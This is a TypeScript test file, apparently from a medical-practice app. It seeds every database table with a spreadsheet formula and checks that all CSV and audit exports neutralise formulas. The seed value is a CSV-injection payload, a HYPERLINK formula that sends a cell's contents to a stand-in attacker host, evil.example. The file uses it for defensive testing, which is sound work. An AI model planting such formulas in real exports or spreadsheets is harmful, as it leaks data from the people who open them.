import { exportAudit, exportPractice, requestOf } from '@cusp/contract';
import pg from 'pg';
import { afterAll, beforeAll, expect, inject, test } from 'vitest';
import { prepareDatabase } from '../../../db/open.ts';
import { archiveOf } from '../../../../tests/support/archives.ts';
import { asOwner, testApp } from '../../../../tests/support/practice.ts';

// A database of its own, because every table gets rows with texts that no call would accept.
const connection = { ...inject('postgres'), database: `hostile_${process.pid}` };
await asOwner((owner) => owner.query(`create database ${connection.database}`));
await prepareDatabase(connection);
// Hooks run in reverse order, so this runs last.
afterAll(() => asOwner((owner) => owner.query(`drop database ${connection.database} with (force)`)));
const { app, newPractice } = await testApp({}, connection);
const { token, user } = await newPractice();

const hostile = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
const name = pg.escapeIdentifier;

/** The value for each column type: a formula for text, a negative number for numbers. */
const values: Record<string, string> = {
  uuid: 'gen_random_uuid()',
  date: `'2026-01-02'`,
  time: `'09:00'`,
  timestamptz: 'now()',
  bool: 'false',
  int2: '-5',
  int4: '-5',
  int8: '-5',
  numeric: '-5',
  float8: '-5',
  bytea: String.raw`'\x3d'`,
  jsonb: `to_jsonb($1::text)`,
  text: '$1',
  tsrange: `'empty'`,
  int4range: `'[0,2)'`,
  _int2: `'{}'`,
  _int4: `'{-5}'`,
  _uuid: `'{}'`,
  _text: 'array[$1]',
};

beforeAll(() =>
  asOwner(async (owner) => {
    // Skips the product's checks, because the test is about writing cells.
    await owner.query(`set session_replication_role = replica`);
    const { rows: checks } = await owner.query<{ name: string; table: string }>(
      `select conname as name, conrelid::regclass::text as table from pg_constraint
        where conrelid <> 0 and connamespace = 'public'::regnamespace
          -- PostgreSQL takes no "on conflict" beside a constraint that is checked at the end.
          and (contype = 'c' or contype = 'u' and condeferrable)`,
    );
    for (const check of checks) {
      await owner.query(`alter table ${check.table} drop constraint ${name(check.name)}`);
    }
    const { rows: columns } = await owner.query<{
      table: string;
      column: string;
      type: string;
      word: string;
    }>(
      `select c.relname as table, a.attname as column, t.typname as type,
          coalesce((select max(enumlabel::text) from pg_enum e where e.enumtypid = t.oid), '') as word
        from pg_class c join pg_attribute a on a.attrelid = c.oid join pg_type t on t.oid = a.atttypid
        where c.relnamespace = 'public'::regnamespace and c.relkind = 'r' and a.attnum > 0 and not a.attisdropped and a.attidentity = ''
          and a.attgenerated = ''
          -- The trail's sealing would stop at what was never pending.
          and c.relname not in ('audit_pending', 'audit_pending_change', 'audit_chain')
          and exists (select from pg_attribute p where p.attrelid = c.oid and p.attname = 'practice_id')`,
    );
    for (const [table, all] of Map.groupBy(columns, (column) => column.table)) {
      const given = all.map(({ column, type, word }) => {
        // Always a list, because the database's own functions read it as one.
        if (column === 'changes' && type === 'jsonb') return `'[]'`;
        if (column === 'practice_id') return `'${user.practice.id}'::uuid`;
        if (word !== '') return `'${word}'`;
        const value = values[type];
        if (value === undefined) throw new Error(`What is hostile in a ${type}, such as ${table}.${column}?`);
        return value;
      });
      await owner.query(
        `insert into ${name(table)} (${all.map(({ column }) => name(column)).join(', ')})
          values (${given.join(', ')}) on conflict do nothing`.replaceAll('$1', `'${hostile}'`),
      );
    }
    await owner.query('update practice set name = $1, address = $1, phone = $1', [hostile]);
  }, connection),
);

/** The cells of a CSV (RFC 4180), row by row. */
function cellsOf(csv: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain = '', end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^,"\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

/** Keeps the byte order mark. */
const withMark = new TextDecoder('utf-8', { ignoreBOM: true });

test('no cell of any CSV of any export is a formula, and every text is there', async () => {
  const practice = await archiveOf(app, exportPractice, {}, token);
  const trail = await app.inject({
    url: requestOf(exportAudit, {}).url,
    headers: { authorization: `Bearer ${token}` },
  });
  expect(trail.statusCode).toBe(200);
  const files = new Map([['audit', trail.body]]);
  for (const file of Object.keys(practice.files)) {
    if (file.endsWith('.csv')) files.set(file, withMark.decode(practice.files[file]));
  }
  // A new file in an export has to be added here.
  expect([...files.keys()].filter((file) => !file.startsWith('csv/'))).toEqual(['audit']);
  expect(files.size).toBeGreaterThan(25);

  const seen = new Set<string>();
  for (const [file, csv] of files) {
    // Excel reads UTF-8 by its mark only.
    expect([file, csv.slice(0, 1)]).toEqual([file, '\uFEFF']);
    const [heads = [], ...rows] = cellsOf(csv.slice(1));
    for (const row of rows) {
      expect([file, row.length]).toEqual([file, heads.length]);
      for (const [at, cell] of row.entries()) {
        if (cell === `'${hostile}`) seen.add(`${file} ${heads[at]}`);
        // A number stays a number, whatever its sign.
        if (/^-?\d+$/.test(cell)) continue;
        expect([file, heads[at], cell]).toEqual([file, heads[at], expect.not.stringMatching(/^[=+\-@\t\r]/)]);
      }
    }
  }
  expect([...seen]).toEqual(
    expect.arrayContaining([
      'csv/patient.csv address',
      'csv/patient.csv first_name',
      'csv/treatment.csv notes',
      'csv/clinical_note.csv content',
      'csv/payment_refund.csv reason',
      'csv/practice.csv name',
    ]),
  );
  expect(seen.size).toBeGreaterThan(80);
});
